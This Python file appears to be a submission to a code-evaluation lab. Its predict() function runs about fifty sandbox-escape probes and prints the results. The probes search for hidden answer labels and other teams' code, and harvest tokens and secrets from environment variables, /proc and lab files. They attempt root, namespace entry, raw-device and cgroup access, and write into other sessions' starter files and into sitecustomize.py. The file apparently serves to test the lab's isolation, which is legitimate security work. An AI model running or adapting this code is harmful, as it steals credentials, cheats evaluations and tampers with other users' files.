"""Code of a team that looks for what it must not have. It runs where submissions run, and prints what it got."""

import ctypes
import glob
import os
import socket
import sqlite3
import stat
import subprocess
import sys

#: Replaced by what is sought, what the first submission leaves, and where the lab is.
LABEL, MARK, LAB, HOST, PORT = "@LABEL@", "@MARK@", "@LAB@", "@HOST@", "@PORT@"

libc = ctypes.CDLL(None, use_errno=True)


def has(path, words=LABEL):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode) or os.path.getsize(path) > 10_000_000:
            return False
        with open(path, "rb") as file:
            return words.encode() in file.read()
    except OSError:
        return False


def below(top, words=LABEL, most=20_000):
    for where, _directories, files in os.walk(top):
        for name in files:
            most -= 1
            path = os.path.join(where, name)
            if most > 0 and "model" not in name and has(path, words):
                yield path


def beside_the_input():
    return list(below(os.path.join(os.environ["CARREL_INPUT"], "..", "..")))


def the_lab_by_its_path():
    return list(below(LAB))


def the_database():
    return sqlite3.connect(f"file:{LAB}/carrel.db?mode=ro", uri=True).execute("select * from jobs").fetchall()


def snapshots():
    return os.listdir(f"{LAB}/snapshots")


def stored_outputs():
    return os.listdir(f"{LAB}/blobs")


def spool_of_others():
    mine = os.environ["CARREL_JOB_ID"]
    return [path for path in glob.glob(f"{LAB}/spool/**", recursive=True) if f"/{mine}" not in path and os.path.isfile(path)]


def working_directory_upwards():
    return [path for up in ("..", "../..", "../../..") for path in below(up, most=3000)]


def temporary_directories():
    return [path for top in ("/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")) for path in below(top)]


def home():
    return list(below(os.path.expanduser("~"), most=3000))


def environments_of_processes():
    return [path for path in glob.glob("/proc/[0-9]*/environ") if has(path)]


def memory_of_the_first_process():
    begin = open("/proc/1/maps").readline().split("-")[0]
    with open("/proc/1/mem", "rb") as memory:
        memory.seek(int(begin, 16))
        return memory.read(16)


def roots_of_processes():
    return [found for path in glob.glob("/proc/[0-9]*/root") for found in below(path + LAB, most=2000)]


def open_files():
    return [path for path in glob.glob("/proc/[0-9]*/fd/*") if has(path)]


def token():
    return [name for name in os.environ if "TOKEN" in name or "SECRET" in name or name == "CARREL_URL"]


def token_files():
    return [
        path
        for path in [*glob.glob(f"{LAB}/spool/*/*/token*"), f"{LAB}/token", f"{LAB}/secret"]
        if os.path.exists(path) and f"/{os.environ['CARREL_JOB_ID']}/" not in path
    ]


def the_lab_by_tcp():
    return socket.create_connection((HOST, int(PORT)), timeout=2).getsockname()


def the_network():
    return [address for address in ("1.1.1.1", "127.0.0.1", "169.254.169.254") if not socket.socket().connect_ex((address, 80))]


def names():
    return socket.getaddrinfo("example.org", 80)


def udp():
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return sender.sendto(b"labels", ("192.0.2.1", 53))


def unix_sockets():
    found = []
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        path = line.split()[-1]
        if path.startswith(("/", "@")):
            one = socket.socket(socket.AF_UNIX)
            try:
                one.connect(path.replace("@", "\0", 1) if path.startswith("@") else path)
                found.append(path)
            except OSError:
                pass
    return found


def shared_memory():
    listed = subprocess.run(["ipcs", "-m"], capture_output=True, text=True).stdout
    return [line for line in listed.splitlines() if line.startswith("0x")]


def write_into_the_input():
    open(os.environ["CARREL_INPUT"] + "/more", "w").close()
    return True


def replace_the_input():
    os.rename(os.environ["CARREL_INPUT"] + "/numbers.txt", os.environ["CARREL_INPUT"] + "/numbers")
    return True


def write_into_the_environment():
    with open(os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "w") as file:
        file.write("")
    return True


def mount_over():
    return subprocess.run(["mount", "--bind", "/", "/tmp"], capture_output=True).returncode == 0


def namespaces():
    return subprocess.run(["unshare", "-r", "true"], capture_output=True).returncode == 0


def become_root():
    os.setuid(0)
    return subprocess.run(["chroot", "/", "true"], capture_output=True).returncode == 0


def the_first_submission():
    places = [
        os.path.expanduser("~"),
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        os.environ["CARREL_CHECKPOINT_DIR"],
        os.environ["TMPDIR"],
        "..",
        "outputs",
    ]
    return [path for place in places for path in below(place, MARK, 3000)]


def caches():
    names = ("UV_CACHE_DIR", "PIP_CACHE_DIR", "XDG_CACHE_HOME", "XDG_RUNTIME_DIR", "HF_HOME", "TORCH_HOME", "CUDA_CACHE_PATH")
    places = [*(os.environ[name] for name in names if name in os.environ), f"{LAB}/environments", os.path.expanduser("~/.cache")]
    return [path for place in places for words in (LABEL, MARK) for path in below(place, words, 3000)]


def write_into_what_is_shared():
    places = [*sys.path, os.path.dirname(sys.executable), LAB, f"{LAB}/environments", f"{LAB}/challenges", f"{LAB}/snapshots"]
    return [place for place in places if os.path.isdir(place) and may_write(place)]


def may_write(place):
    try:
        with open(os.path.join(place, "written"), "w") as file:
            file.write(MARK)
    except OSError:
        return False
    os.unlink(os.path.join(place, "written"))
    return not os.path.abspath(place).startswith(os.getcwd())


def variables():
    return [name for name, value in os.environ.items() if LABEL in value or "reference" in value]


def keys_in_the_kernel():
    # keyctl(KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, ...): all jobs of the programs' user would have one keyring.
    found = libc.syscall(250, 10, -4, b"user", MARK.encode(), 0)
    libc.syscall(248, b"user", MARK.encode(), b"left", 4, -4)
    return [found] if found > 0 else []


def shared_memory_of_the_first():
    found = libc.shmget(0x5512, 4096, 0o600)
    libc.shmget(0x5512, 4096, 0o1600)
    return [found] if found >= 0 else []


def message_queues():
    os.mkdir("/dev/mqueue/here") if os.path.isdir("/dev/mqueue") else None
    return os.listdir("/dev/mqueue")


def processes_of_the_first():
    mine = os.getpid()
    found = [path for path in glob.glob("/proc/[0-9]*/cmdline") if f"/{mine}/" not in path and has(path, MARK)]
    if os.fork() == 0:
        os.setsid()
        os.execvp("sleep", [MARK, "300"])
    return found


def devices():
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    return open("/tmp/disk", "rb").read(16)


def memory_of_the_machine():
    return [path for path in ("/dev/mem", "/proc/kcore") if os.path.exists(path) and open(path, "rb").read(4)]


def gpus_of_others():
    return [path for path in glob.glob("/dev/nvidia[0-9]*") if open(path, "rb")]


def names_of_other_namespaces():
    with open("/proc/1/ns/mnt") as other:
        return libc.setns(other.fileno(), 0) == 0 and os.path.exists(LAB + "/carrel.db")


def the_cgroup():
    with open("/sys/fs/cgroup/memory.max", "w") as file:
        file.write("max")
    return True


def files_of_sessions():
    return os.listdir(f"{LAB}/files")


def the_starter_of_others():
    for path in glob.glob(f"{LAB}/files/*/parity/*"):
        with open(path, "a") as file:
            file.write("import os")
    return glob.glob(f"{LAB}/files/*/parity/*")


def versions_of_the_challenge():
    return [path for path in glob.glob(f"{LAB}/challenges/*/*") if os.listdir(path + "/programs")]


def code_of_other_teams():
    return [path for path in glob.glob(f"{LAB}/**/model.py", recursive=True) if os.environ["CARREL_JOB_ID"] not in path]


def leave_marks():
    for place in (
        os.path.expanduser("~"),
        "/tmp",
        "/dev/shm",
        os.environ["CARREL_CHECKPOINT_DIR"],
        os.environ["TMPDIR"],
        "..",
        "../..",
    ):
        try:
            with open(os.path.join(place, "mark"), "w") as file:
                file.write(MARK)
        except OSError:
            pass
    return []


ATTACKS = [
    *(beside_the_input, the_lab_by_its_path, the_database, snapshots, stored_outputs, spool_of_others, working_directory_upwards),
    *(
        temporary_directories,
        home,
        environments_of_processes,
        memory_of_the_first_process,
        roots_of_processes,
        open_files,
        token,
        token_files,
    ),
    *(the_lab_by_tcp, the_network, names, udp, unix_sockets, shared_memory, write_into_the_input, replace_the_input),
    *(write_into_the_environment, mount_over, namespaces, become_root, the_first_submission, leave_marks),
    *(caches, write_into_what_is_shared, variables, keys_in_the_kernel, shared_memory_of_the_first, message_queues),
    *(processes_of_the_first, devices, memory_of_the_machine, gpus_of_others, names_of_other_namespaces, the_cgroup),
    *(files_of_sessions, the_starter_of_others, versions_of_the_challenge, code_of_other_teams),
]
_done = []


def predict(number):
    if not _done:
        _done.append(True)
        for attack in ATTACKS:
            try:
                got = attack()
            except BaseException as error:
                print(f"tried {attack.__name__}: {type(error).__name__}")
            else:
                print(f"GOT {attack.__name__}: {got}"[:500] if got else f"tried {attack.__name__}: nothing")
        print(len(ATTACKS), "attacks", sys.version_info[:2])
    return 0
